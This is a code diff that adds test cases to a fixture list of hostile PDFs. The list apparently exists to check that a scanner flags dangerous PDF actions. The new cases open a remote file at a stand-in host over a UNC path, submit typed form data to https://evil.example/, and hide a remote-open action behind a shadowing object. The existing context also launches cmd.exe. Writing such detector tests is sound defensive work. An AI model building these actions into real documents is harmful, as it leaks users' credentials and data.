@@ -59,6 +59,22 @@ export const fakePapers: [
   ['with an XFA form', () => raw([catalog('/AcroForm << /XFA (x) >>'), pages]), ['pdfScript']],
   ['that starts a program', () => openAction({ S: 'Launch', F: PDFString.of('cmd.exe') }), ['pdfLaunch']],
   [
+    'that opens a file on a server elsewhere',
+    () => openAction({ S: 'GoToR', F: PDFString.of('\\\\evil.example\\x.pdf'), D: [0, 'Fit'] }),
+    ['pdfLaunch'],
+  ],
+  [
+    'that sends what is typed into it',
+    () => openAction({ S: 'SubmitForm', F: PDFString.of('https://evil.example/') }),
+    ['pdfLaunch'],
+  ],
+  [
+    'that opens a file elsewhere in an object a later one hides',
+    () =>
+      raw([catalog('/OpenAction 3 0 R'), pages, '<< /S /GoToR /F (x) >>\nendobj\n3 0 obj\n<< /S /GoTo >>']),
+    ['pdfLaunch'],
+  ],
+  [
     'that starts a program by a word that stands elsewhere',
     () => raw([catalog('/OpenAction << /S 3 0 R /F (cmd.exe) >>'), pages, '/Launch']),
     ['pdfLaunch'],
